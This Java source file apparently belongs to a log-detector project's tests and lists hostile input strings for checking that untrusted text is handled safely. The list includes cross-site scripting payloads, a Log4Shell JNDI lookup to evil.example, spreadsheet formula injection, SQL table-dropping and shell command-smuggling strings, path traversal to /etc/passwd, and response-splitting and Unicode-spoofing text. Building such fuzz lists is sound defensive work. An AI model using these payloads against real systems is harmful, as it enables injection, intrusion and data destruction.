package org.forgedtoken.detector;

import java.util.ArrayList;
import java.util.List;

/**
 * What an attacker may write wherever a log takes text: each of these has broken a page, a line, a spreadsheet, a query or a
 * log of somebody.
 */
public final class Naughty {
    /** A page, a template or a shell that takes one of them for its own sets this on its window. */
    public static final String RAN = "__ran";

    /** All of them, each different. */
    public static final List<String> ALL = all();

    private Naughty() {}

    private static List<String> all() {
        String run = "window." + RAN + "=1";
        List<String> all = new ArrayList<>(List.of(
                "<script>" + run + "</script>",
                "</script><script>" + run + "</script>",
                "<img src=x onerror=" + run + ">",
                "\"><svg onload=" + run + "><desc>",
                "' onmouseover='" + run + "' x='",
                "\" autofocus onfocus=\"" + run + "\" tabindex=\"1",
                "<iframe srcdoc=\"<script>parent." + RAN + "=1</script>\"></iframe>",
                "<a href=\"javascript:" + run + "\">click</a>",
                "javascript:" + run + "//",
                "data:text/html,<script>opener." + RAN + "=1</script>",
                "<style>*{display:none}</style>",
                "<base href=//evil.example/><meta http-equiv=refresh content=0>",
                "<!--<body>--><![CDATA[",
                "&lt;b&gt;&#x3c;script&#x3e;&amp;",
                "\\u003Cscript\\u003E" + run + "\\u003c/script\\u003e",
                "{{constructor.constructor('" + run + "')()}}",
                "${" + run + "}#{7*7}<%= 7*7 %>{% raw %}",
                "${jndi:ldap://evil.example/a}",
                "`" + run + "`;$(id);|id;&&id",
                "'; DROP TABLE alerts; --",
                "=cmd|'/c calc'!A0",
                "+1+cmd|'/c calc'!A0",
                "-2+3",
                "@SUM(1+1)*cmd",
                "\t=1+1",
                "\r=1+1",
                "a\"\",\"b\",=1+1",
                "line\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b\r\n\r\n",
                "data: x\n\nevent: alert\ndata: {}\n\n",
                "\u001b[2J\u001b[31mred\u0007\u009b31m",
                "nul\u0000middle",
                "gpj.\u202Eexe.elif",
                "\u2066iso\u2067late\u2069\u200F",
                "zero\u200Bwidth\u200D\uFEFF\u00AD",
                "line\u2028separator\u2029paragraph\u0085",
                "😀👩‍👩‍👧‍👦🏳️‍🌈",
                "Z͑ͫ̓͏a̴͏l̵g̶o̷",
                "ﷺ漢字テスト العربية עברית",
                "half \uD83D of a pair",
                "\uDC00\uD800",
                "../../../../etc/passwd%00",
                "%3Cscript%3E%2e%2e%2f%",
                "\\\\evil.example\\share",
                "__proto__",
                "constructor",
                "null",
                "undefined",
                "NaN",
                "\"",
                "'",
                "\\",
                " leading and trailing ",
                "0x7fffffffffffffff",
                "{\"rule\":\"x\"}",
                "# HELP detector_alerts_total x\ndetector_alerts_total{rule=\"x\"} 1e9"));
        all.add("L" + "o".repeat(3_000) + "ng<script>" + run + "</script>");
        all.add("combining" + "\u0301".repeat(300));
        return List.copyOf(all);
    }
}
